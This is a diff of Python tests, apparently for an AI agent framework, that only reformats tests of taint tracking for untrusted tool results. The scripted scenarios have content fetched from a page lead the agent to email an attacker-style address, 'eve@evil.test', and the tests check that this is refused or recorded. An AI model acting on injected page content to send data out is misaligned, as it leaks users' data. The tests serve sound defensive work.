@@ -90,7 +90,14 @@ def build(
 
 
 async def test_untrusted_results_reach_the_model_between_the_runs_delimiters() -> None:
-    agent, model, _, _ = build([call("fetch_page", url="https://a.test"), DONE, call("fetch_page", url="https://a.test"), DONE])
+    agent, model, _, _ = build(
+        [
+            call("fetch_page", url="https://a.test"),
+            DONE,
+            call("fetch_page", url="https://a.test"),
+            DONE,
+        ]
+    )
     await agent.run("read https://a.test")
     await agent.run("again https://a.test")
     first, second = model.requests[1], model.requests[3]
@@ -121,7 +128,11 @@ async def test_a_result_cannot_close_its_region_or_forge_a_block() -> None:
 
 async def test_refuse_tells_the_model_and_records_the_decision() -> None:
     agent, model, ran, asked = build(
-        [call("fetch_page", url="https://a.test"), call("send_email", to="eve@evil.test", body="x"), DONE],
+        [
+            call("fetch_page", url="https://a.test"),
+            call("send_email", to="eve@evil.test", body="x"),
+            DONE,
+        ],
         policy='taint: { sensitive: "refuse" }',
     )
     intents: list[Any] = []
@@ -130,7 +141,7 @@ async def test_refuse_tells_the_model_and_records_the_decision() -> None:
     assert ran == [] and asked == []
     told = model.requests[2].messages[-1].content
     assert "[tool_error: send_email]" in told and "send_email was refused" in told
-    (record,) = session["tainted_calls"]  # type: ignore[typeddict-item]
+    (record,) = session["tainted_calls"]
     assert record["action"] == "refuse" and record["policy"] == "refuse"
     finding = record["findings"][0]
     assert finding["rule"] == "copied" and finding["source"]["name"] == "fetch_page"
@@ -146,7 +157,7 @@ async def test_a_per_tool_policy_overrides_the_config_and_is_still_recorded() ->
     )
     session = await agent.run("read https://a.test")
     assert ran == [("post", "eve@evil.test")] and asked == []
-    assert [t["action"] for t in session["tainted_calls"]] == ["allow"]  # type: ignore[typeddict-item]
+    assert [t["action"] for t in session["tainted_calls"]] == ["allow"]
 
 
 async def test_workflows_and_approval_tools_are_sinks_and_the_request_says_why() -> None:
@@ -200,7 +211,12 @@ async def test_a_trusted_tool_that_echoes_tainted_arguments_is_not_a_trusted_sou
 
 async def test_untrusted_text_in_the_kept_history_taints_a_later_run() -> None:
     agent, _, ran, asked = build(
-        [call("fetch_page", url="https://a.test"), DONE, call("send_email", to="eve@evil.test", body="x"), DONE]
+        [
+            call("fetch_page", url="https://a.test"),
+            DONE,
+            call("send_email", to="eve@evil.test", body="x"),
+            DONE,
+        ]
     )
     session = await agent.run("read https://a.test")
     loaded = json.loads(json.dumps(session))
@@ -249,7 +265,11 @@ async def test_the_decision_is_on_the_tools_span() -> None:
     provider = TracerProvider()
     provider.add_span_processor(SimpleSpanProcessor(exporter))
     agent, _, _, _ = build(
-        [call("fetch_page", url="https://a.test"), call("send_email", to="eve@evil.test", body="x"), DONE],
+        [
+            call("fetch_page", url="https://a.test"),
+            call("send_email", to="eve@evil.test", body="x"),
+            DONE,
+        ],
         tracerProvider=provider,
     )
     await agent.run("read https://a.test")
@@ -283,7 +303,9 @@ async def test_code_mode_values_from_untrusted_api_calls_stay_tainted(
     """Exact by value inside one program; a transformed value (reversed) escapes until the
     next round (the documented limit)."""
     native = ScriptedModel.call("tool__execute_code", {"code": "import api\n" + program})
-    result = compile_sources({"main.agent": CODE.replace('prompt: "Help."', 'prompt: "Help." protocol: "native"')})
+    result = compile_sources(
+        {"main.agent": CODE.replace('prompt: "Help."', 'prompt: "Help." protocol: "native"')}
+    )
     assert result.ok, [d.message for d in result.diagnostics]
     doc = result.documents["main.agent"]
     ran: list[Any] = []
